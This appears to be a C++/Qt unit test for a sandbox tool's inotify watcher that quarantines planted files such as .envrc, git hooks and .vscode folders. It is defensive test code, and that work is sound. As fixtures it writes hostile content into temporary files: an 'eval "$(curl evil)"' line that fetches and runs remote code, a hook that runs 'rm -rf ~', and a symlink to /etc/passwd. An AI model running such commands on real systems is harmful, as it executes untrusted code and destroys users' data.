// The monitor's guard on absent protected paths, against real inotify in temporary directories:
// a created guarded file is moved aside under the documented name with its content intact, the
// critical flag is reported, an event-queue overflow is answered with a sweep, an entry present
// before the watch started is left alone, and a parent reached through a symbolic link is refused.

#include "ProtectedPathWatcher.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

#include <fcntl.h>
#include <poll.h>
#include <unistd.h>

using cordon::confine::ProtectedPathWatcher;
using cordon::spec::GuardedPath;

namespace {

void writeFile(const QString& path, const QByteArray& content)
{
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::NewOnly));
    QCOMPARE(f.write(content), content.size());
}

QByteArray readFile(const QString& path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return "<unreadable>";
    return f.readAll();
}

// Waits up to 2 s for the inotify descriptor, then lets the watcher handle what is there.
bool pump(ProtectedPathWatcher& w, bool* critical)
{
    pollfd p{w.fd(), POLLIN, 0};
    if (::poll(&p, 1, 2000) != 1)
        return false;
    *critical = w.handleEvents() || *critical;
    return true;
}

} // namespace

class TestProtectedPathWatcher final : public QObject {
    Q_OBJECT

    std::unique_ptr<ProtectedPathWatcher> make(const std::vector<GuardedPath>& guarded, QStringList* lines)
    {
        std::string error;
        auto w = ProtectedPathWatcher::create(
            guarded, "run-0123abcd", [lines](const std::string& line) { lines->append(QString::fromStdString(line)); },
            error);
        if (!w)
            qWarning("create: %s", error.c_str());
        return w;
    }

private Q_SLOTS:
    void createdFileIsQuarantined()
    {
        QTemporaryDir dir;
        const QString ws = QFileInfo(dir.path()).canonicalFilePath();
        QVERIFY(QDir().mkpath(ws + QStringLiteral("/.git")));
        const QString commondir = ws + QStringLiteral("/.git/commondir");
        const QString envrc = ws + QStringLiteral("/.envrc");
        QStringList lines;
        auto w = make({{commondir.toStdString(), true}, {envrc.toStdString(), false}}, &lines);
        QVERIFY(w);
        QVERIFY(w->fd() >= 0);

        // Not critical: moved aside, reported, no stop asked for.
        writeFile(envrc, "eval \"$(curl evil)\"\n");
        bool critical = false;
        QVERIFY(pump(*w, &critical));
        QVERIFY(!critical);
        QVERIFY(!w->criticalSeen());
        QVERIFY(!QFileInfo::exists(envrc));
        const QString envrcMoved = envrc + QStringLiteral(".cordon-quarantine-run-0123abcd");
        QCOMPARE(readFile(envrcMoved), QByteArray("eval \"$(curl evil)\"\n"));
        QCOMPARE(lines.size(), 1);
        QCOMPARE(lines.first(), QStringLiteral("cordon: the sandbox created ") + envrc +
                                    QStringLiteral(", which your shell would run on the host; moved it to "
                                                   ".envrc.cordon-quarantine-run-0123abcd"));

        // Critical: the same, and the stop is asked for.
        writeFile(commondir, "../evil\n");
        QVERIFY(pump(*w, &critical));
        QVERIFY(critical);
        QVERIFY(w->criticalSeen());
        QVERIFY(w->criticalMessage().find("which git would run on the host") != std::string::npos);
        QVERIFY(!QFileInfo::exists(commondir));
        QCOMPARE(readFile(commondir + QStringLiteral(".cordon-quarantine-run-0123abcd")), QByteArray("../evil\n"));

        // Created again (or the quarantine renamed back): moved again, never overwriting.
        QVERIFY(QFile::rename(envrcMoved, envrc));
        critical = false;
        QVERIFY(pump(*w, &critical));
        QVERIFY(!QFileInfo::exists(envrc));
        QCOMPARE(readFile(envrcMoved), QByteArray("eval \"$(curl evil)\"\n"));
        writeFile(envrc, "second\n");
        QVERIFY(pump(*w, &critical));
        QVERIFY(!critical);
        QVERIFY(!QFileInfo::exists(envrc));
        QCOMPARE(readFile(envrcMoved), QByteArray("eval \"$(curl evil)\"\n"));
        QCOMPARE(readFile(envrcMoved + QStringLiteral("-1")), QByteArray("second\n"));

        // A directory (and a symbolic link) is moved like a file; other names are left alone.
        const QString vscode = ws + QStringLiteral("/.vscode");
        const QString link = ws + QStringLiteral("/.git/config.worktree");
        auto w2 = make({{vscode.toStdString(), false}, {link.toStdString(), true}}, &lines);
        QVERIFY(w2);
        QVERIFY(QDir().mkpath(vscode + QStringLiteral("/sub")));
        writeFile(ws + QStringLiteral("/unrelated"), "x");
        QVERIFY(::symlink("/etc/passwd", QFile::encodeName(link).constData()) == 0);
        critical = false;
        QElapsedTimer t;
        t.start();
        while ((QFileInfo::exists(vscode) || QFileInfo(link).isSymLink()) && t.elapsed() < 3000)
            (void)pump(*w2, &critical);
        QVERIFY(!QFileInfo::exists(vscode));
        QVERIFY(QFileInfo(vscode + QStringLiteral(".cordon-quarantine-run-0123abcd/sub")).isDir());
        QVERIFY(!QFileInfo(link).isSymLink());
        QVERIFY(QFileInfo(link + QStringLiteral(".cordon-quarantine-run-0123abcd")).isSymLink());
        QVERIFY(critical);
        QVERIFY(QFileInfo::exists(ws + QStringLiteral("/unrelated")));
    }

    // More events than the queue holds: IN_Q_OVERFLOW, answered by checking every guarded path.
    void overflowTriggersSweep()
    {
        QTemporaryDir dir;
        const QString ws = QFileInfo(dir.path()).canonicalFilePath();
        const QString hook = ws + QStringLiteral("/hooks");
        QStringList lines;
        auto w = make({{hook.toStdString(), true}}, &lines);
        QVERIFY(w);
        QFile maxQueued(QStringLiteral("/proc/sys/fs/inotify/max_queued_events"));
        QVERIFY(maxQueued.open(QIODevice::ReadOnly));
        const int limit = maxQueued.readAll().trimmed().toInt();
        QVERIFY(limit > 0 && limit <= 1 << 20);
        // Fill the queue with other names first, so that the guarded name's own event is dropped
        // and only IN_Q_OVERFLOW tells the watcher that something happened.
        for (int i = 0; i <= limit + 10; ++i) {
            const QString noise = ws + QStringLiteral("/n") + QString::number(i);
            QVERIFY(::close(::creat(QFile::encodeName(noise).constData(), 0600)) == 0);
        }
        writeFile(hook, "#!/bin/sh\nrm -rf ~\n");
        bool critical = false;
        QVERIFY(pump(*w, &critical));
        QVERIFY(critical);
        QVERIFY(!QFileInfo::exists(hook));
        QCOMPARE(
            readFile(hook + QStringLiteral(".cordon-quarantine-run-0123abcd")), QByteArray("#!/bin/sh\nrm -rf ~\n"));
    }

    // The final sweep after the sandbox exits finds what no event was read for.
    void sweepFindsWithoutEvents()
    {
        QTemporaryDir dir;
        const QString ws = QFileInfo(dir.path()).canonicalFilePath();
        const QString idea = ws + QStringLiteral("/.idea");
        const QString preexisting = ws + QStringLiteral("/.bashrc");
        writeFile(preexisting, "# the person's own\n");
        QStringList lines;
        auto w = make({{idea.toStdString(), false}, {preexisting.toStdString(), false}}, &lines);
        QVERIFY(w);
        QVERIFY(QDir().mkdir(idea));
        QVERIFY(!w->sweep());
        QVERIFY(!QFileInfo::exists(idea));
        QVERIFY(QFileInfo(idea + QStringLiteral(".cordon-quarantine-run-0123abcd")).isDir());
        QVERIFY(!w->criticalSeen());
        // Present before the watch started (not made by the sandbox): left alone...
        QCOMPARE(readFile(preexisting), QByteArray("# the person's own\n"));
        // ...unless it is replaced.
        QVERIFY(QFile::remove(preexisting));
        writeFile(preexisting, "planted\n");
        QVERIFY(!w->sweep());
        QVERIFY(!QFileInfo::exists(preexisting));
        QCOMPARE(readFile(preexisting + QStringLiteral(".cordon-quarantine-run-0123abcd")), QByteArray("planted\n"));
        QCOMPARE(w->quarantined().size(), std::size_t(2));
    }

    void refusesSymlinkedParent()
    {
        QTemporaryDir dir;
        const QString ws = QFileInfo(dir.path()).canonicalFilePath();
        QVERIFY(QDir().mkpath(ws + QStringLiteral("/real")));
        QVERIFY(QFile::link(ws + QStringLiteral("/real"), ws + QStringLiteral("/link")));
        std::string error;
        auto w = ProtectedPathWatcher::create(
            {{(ws + QStringLiteral("/link/hooks")).toStdString(), true}}, "r", nullptr, error);
        QVERIFY(!w);
        QVERIFY2(error.find("Too many levels of symbolic links") != std::string::npos ||
                     error.find("symbolic") != std::string::npos,
            error.c_str());
        // Nothing to guard: a watcher without a descriptor.
        w = ProtectedPathWatcher::create({}, "r", nullptr, error);
        QVERIFY(w);
        QCOMPARE(w->fd(), -1);
        QVERIFY(!w->sweep());
    }
};

QTEST_GUILESS_MAIN(TestProtectedPathWatcher)
#include "tst_protectedpathwatcher.moc"
